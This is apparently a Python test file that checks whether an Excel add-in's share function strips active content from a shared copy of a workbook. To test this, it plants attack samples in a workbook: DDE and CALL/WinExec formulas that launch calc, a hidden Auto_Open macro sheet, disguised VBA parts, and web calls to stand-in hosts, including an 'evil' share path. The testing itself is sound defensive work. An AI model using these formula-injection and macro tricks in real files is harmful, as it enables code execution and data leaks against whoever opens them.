"""A copy for others holds nothing that runs or reads elsewhere, wherever its part lies and whatever its name is."""

import io
import re
import subprocess
import warnings
import zipfile
from pathlib import Path

import openpyxl
import planted
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule, DataBarRule, FormulaRule
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table

from addin.actions.share import share
from addin.files import template
from addin.xlsx.file_book import FileBook

pytestmark = pytest.mark.attack("what runs or reads elsewhere, in a shared copy")
MS = "application/vnd.ms-excel"
BOOK, SHEET, CHART = "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/charts/chart1.xml"
VBA = "application/vnd.ms-office.vbaProject"
ACTIVE = {
    "code.dat": (BOOK, "vbaProject", VBA),
    "xl/media/code.png": (BOOK, "image", "image/png"),
    "xl/theme/theme7.xml": (BOOK, "theme", VBA),
    "odd.bin": (BOOK, "VBAPROJECT", "application/octet-stream"),
    "nothing.leads/here.bin": (None, "", VBA),
    "__MACOSX/xl/_rels/._workbook.xml.rels": (None, "", "application/octet-stream"),
    "a/macros.xml": (BOOK, "xlMacrosheet", f"{MS}.macrosheet+xml"),
    "b/international.xml": (BOOK, "xlIntlMacrosheet", f"{MS}.intlmacrosheet+xml"),
    "c/dialog.xml": (BOOK, "dialogsheet", f"{planted.ML}.dialogsheet+xml"),
    "links/x.xml": (BOOK, "externalLink", f"{planted.ML}.externalLink+xml"),
    "d/some.xml": (BOOK, "connections", f"{planted.ML}.connections+xml"),
    "e/some.bin": (SHEET, "oleObject", "application/vnd.openxmlformats-officedocument.oleObject"),
    "f/some.xlsx": (SHEET, "package", f"{planted.ML}.sheet"),
    "g/some.xml": (SHEET, "control", "application/vnd.ms-office.activeX+xml"),
    "h/some.xml": (SHEET, "ctrlProp", f"{MS}.controlproperties+xml"),
    "i/some.xml": (SHEET, "queryTable", f"{planted.ML}.queryTable+xml"),
    "j/some.bin": (BOOK, "attachedToolbars", f"{MS}.attachedToolbars"),
    "k/buttons.xml": ("", "extensibility", "application/xml"),
    "k/buttons14.xml": ("", "ui/extensibility", "application/xml"),
    "l/hidden.bin": (BOOK, "hyperlink", VBA),
    "m/web.xml": ("", "webextensiontaskpanes", "application/vnd.ms-office.webextensiontaskpanes+xml"),
    "n/model.data": (BOOK, "powerPivotData", "application/vnd.openxmlformats-officedocument.model+data"),
    "o/topics.xml": (BOOK, "volatileDependencies", f"{planted.ML}.volatileDependencies+xml"),
    "p/mashup.xml": (BOOK, "customXml", "application/xml"),
    "q/picture.svg": (SHEET, "image", "image/svg+xml"),
    "r/pivot.xml": (BOOK, "pivotCacheDefinition", f"{planted.ML}.pivotCacheDefinition+xml"),
    "s/new": (BOOK, "a kind of next year", "application/next-year"),
    "t/setup.png": (SHEET, "image", "image/png"),
    "u/page.html": (SHEET, "hyperlink", "application/octet-stream"),
}
"""Parts with names of no meaning: which part leads to them, by what relation, and of what content type they are."""
OUTWARD = {
    "other book": "=[1]Sheet1!A1",
    "other book's name": "=SUM([12]!Rates)",
    "path": r"='C:\data\[b.dbf]S'!A1",
    "server": '=WEBSERVICE("http://x.example/w")',
    "picture": '=_xlfn.IMAGE("http://x.example/i.png")',
    "program": "=cmd|' /C calc'!A0",
    "prices": '=RTD("prog.id","","x")',
    "python": '=_xlfn._xlws.PY(0,1,"x")',
    "library": '=CALL("Kernel32","WinExec","JCJ","calc",0)',
    "name": "=Far*2",
    "name of a name": "=Further+1",
    "macro sheet": "=Macro1!A1",
    "handed over": "=MAP(A1:A2,WEBSERVICE)",
    "blank before the bracket": '=IMAGE ("http://x.example/i.png")',
    "path without brackets": r"='\\server\share\b.dat'!rate",
}
HERE = {"column of a table": "=SUM(mine[2024])", "column and sheet": "=SUM(mine[2024])+Other!A1",
        "text": '="[1]Sheet1!A1 a|b"', "link": '=HYPERLINK("http://x.example/h","x")', "sheet": "='a|b'!A1+1"}  # fmt: skip
NAMES = (
    '<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName><definedName name="Far">[1]Sheet1!$A$1</definedName>'
    '<definedName name="Further">Far+1</definedName><definedName name="Runs" xlm="1" function="1">1</definedName>'
    '<definedName name="Reads">GET.WORKBOOK(1)</definedName><definedName name="Near">Sheet!$A$1</definedName>'
    '<definedName name="Scoped" localSheetId="1">Other!$A$1</definedName>'
)
SHAPES = (
    '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:o" xmlns:x="urn:x"><v:shape><v:imagedata '
    'src="http://x.example/a.png" o:relid="rId77"/><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!Run</x:FmlaMacro>'
    "<x:FmlaLink>[1]Sheet1!$A$1</x:FmlaLink></x:ClientData></v:shape></xml>"
)


def active_book() -> bytes:
    workbook = openpyxl.Workbook()
    sheet, other, barred = workbook.active, workbook.create_sheet("Other"), workbook.create_sheet("a|b")
    other["A1"], barred["A1"] = 7, 8
    for row in range(1, 5):
        sheet.append([row, row * 2])
    for row, formula in enumerate([*OUTWARD.values(), *HERE.values()], 1):
        sheet.cell(row, 3).value = formula
    sheet["J1"], sheet["J2"] = "2024", 5
    sheet.add_table(Table(displayName="mine", ref="J1:J2"))
    for cell, formula in {"D1": "[1]Sheet1!$A$1:$A$3", "D2": "$A$1:$A$3", "D3": "Far"}.items():
        rule = DataValidation("list", formula1=formula)
        rule.add(cell)
        sheet.add_data_validation(rule)
    for cells, rule in {
        "A1:A4": FormulaRule(["[1]Sheet1!$A$1>1"]),
        "B1:B4": FormulaRule(["$B$1>1"]),
        "D1:D4": CellIsRule("equal", ["[1]Sheet1!$A$1"]),
        "E1:E4": DataBarRule("formula", "[1]Sheet1!$A$1", "max", color="FF0000FF"),
    }.items():
        sheet.conditional_formatting.add(cells, rule)
    sheet["A1"].comment = Comment("x", "y")
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=4))
    sheet.add_chart(chart, "F2")
    stream = io.BytesIO()
    workbook.save(stream)
    project = zipfile.ZipFile(template()).read("xl/vbaProject.bin")
    held = {
        "xl/media/code.png": project,
        "odd.bin": project,
        "r/pivot.xml": '<pivotCacheDefinition><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>',
        "__MACOSX/xl/_rels/._workbook.xml.rels": b"\0\5\x16\7 what a Mac puts into an archive",
        "t/setup.png": b"MZ\x90\0 and what follows",
        "a/macros.xml": f'<xm:macrosheet xmlns:xm="{planted.MAIN}"/>',
    }
    parts = {
        part: (of, kind, content_type, held.get(part) or (project if content_type == VBA else f"<x>{part}</x>"))
        for part, (of, kind, content_type) in ACTIVE.items()
    }
    links = (
        '<Relationship Id="rIdOut" Type="http://x/externalLinkPath" Target="file:///x.xlsx" TargetMode="External"/>'
        '<Relationship Id="rIdPic" Type="http://x/image" Target="http://x.example/i.png" TargetMode="External"/>'
        '<Relationship Id="rIdLink" Type="http://x/hyperlink" Target="http://x.example/" TargetMode="External"/>'
    )
    data, _ = planted.with_parts(stream.getvalue(), planted.Names("Zz"), parts)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        macro_sheet = re.search(r'Id="([^"]*)" Type="[^"]*/xlMacrosheet"',
                                package.read("xl/_rels/workbook.xml.rels").decode())[1]  # fmt: skip
    names = f"</sheets><externalReferences/><definedNames>{NAMES}</definedNames>"
    data, _ = planted.with_parts(data, planted.Names("Zy"), {
        BOOK: lambda text: text.replace("<definedNames />", "").replace("</sheets>", names).replace(
            "<sheets>", f'<sheets><sheet name="Macro1" sheetId="9" state="veryHidden" r:id="{macro_sheet}" '
            f'xmlns:r="{planted.REL}"/>').replace('localSheetId="1"', 'localSheetId="2"'),
        CHART: lambda text: re.sub(r"<f>[^<]*</f>", "<f>[1]Sheet1!$A$1:$A$4</f>", text, count=1),
        "xl/drawings/drawing1.xml": lambda text: text.replace("<graphicFrame>", '<graphicFrame macro="[0]!Run">'),
        "xl/worksheets/_rels/sheet1.xml.rels": lambda text: text.replace("</Relationships>", f"{links}</Relationships>"),
        SHEET: lambda text: text.replace("</worksheet>", f'<picture xmlns:r="{planted.REL}" r:id="rIdPic"/>'
            '<oleObjects><oleObject progId="Package" link="[1]!x" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1"/></oleObjects>'
            r'<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="\\evil\x.htm" '
            'autoRepublish="1"/></webPublishItems></worksheet>'),
        "xl/drawings/more.vml": (SHEET, "vmlDrawing", "application/vnd.openxmlformats-officedocument.vmlDrawing", SHAPES),
    })  # fmt: skip
    return data


def macros(path: Path) -> bool:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of pyparsing, about oletools
        from oletools.olevba import VBA_Parser

    parser = VBA_Parser(str(path))
    try:
        return bool(parser.detect_macros())
    finally:
        parser.close()


@pytest.fixture(scope="module")
def copied(tmp_path_factory):
    folder = tmp_path_factory.mktemp("shared")
    (folder / "book.xlsm").write_bytes(active_book())
    share(FileBook(folder / "book.xlsm"), folder / "copy.xlsx")
    return folder / "copy.xlsx"


def test_no_part_that_runs_or_reads_elsewhere(copied, attacks):
    held = zipfile.ZipFile(copied)
    attacks(len(ACTIVE), len(ACTIVE.keys() - set(held.namelist())))
    assert not set(held.namelist()) & ACTIVE.keys()
    text = b"".join(held.read(name) for name in held.namelist())
    for _, kind, content_type in ACTIVE.values():
        assert f'/{kind}"'.encode() not in text or kind in ("", "hyperlink", "theme"), kind
        assert f'"{content_type}"'.encode() not in text or content_type == "application/xml", content_type
    for word in (
        b"[1]Sheet1!$",
        b"[0]!",
        b"Auto_Open",
        b"x.xlsx",
        b'i.png" Target',
        b"GET.WORKBOOK",
        b"a.png",
        b"OLEUPDATE",
        b"evil",
    ):
        assert word not in text, word
    outside = re.findall(r'<Relationship [^>]*TargetMode="External"[^>]*>', text.decode("utf-8", "replace"))
    assert ["hyperlink" in relation for relation in outside] == [True]


def test_formulas_that_read_elsewhere_hold_values_and_the_others_stay(copied, attacks):
    sheet = openpyxl.load_workbook(copied).worksheets[0]
    formulas = [sheet.cell(row, 3).value for row in range(1, len(OUTWARD) + len(HERE) + 1)]
    left = [value for value in formulas[: len(OUTWARD)] if str(value).startswith("=")]
    attacks(len(OUTWARD), len(OUTWARD) - len(left))
    assert left == []
    assert formulas[len(OUTWARD) :] == list(HERE.values())


def test_the_rest_is_as_it_was(copied):
    book = openpyxl.load_workbook(copied)
    sheet = book.worksheets[0]
    assert book.sheetnames == ["Sheet", "Other", "a|b"]
    assert [cell.value for cell in sheet["B"][:4]] == [2, 4, 6, 8]
    assert [str(area.sqref) for area in sheet.conditional_formatting] == ["B1:B4"]
    assert [str(rule.sqref) for rule in sheet.data_validations.dataValidation] == ["D2"]
    assert len(sheet._charts) == 1
    assert sheet["A1"].comment.text == "x"
    assert dict(book.defined_names).keys() == {"Near"}
    assert book["Other"].defined_names.keys() == {"Scoped"}
    assert FileBook(copied).tables() == ["mine"]


def test_olevba_finds_macros_before_and_none_after(copied):
    assert macros(copied.with_name("book.xlsm"))
    assert not macros(copied)


@pytest.mark.thorough
def test_microsofts_validator_finds_nothing_in_a_copy_of_the_template(tmp_path, faults):
    share(FileBook(template()), tmp_path / "copy.xlsx")
    assert faults(tmp_path / "copy.xlsx") == []


def test_libreoffice_opens_the_copy(copied, soffice, tmp_path):
    command = [soffice, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--convert-to", "csv",
               "--outdir", tmp_path, copied]  # fmt: skip
    subprocess.run(command, check=False, capture_output=True, timeout=120)
    assert (tmp_path / "copy.csv").read_text().splitlines()[3].startswith("4,8,")
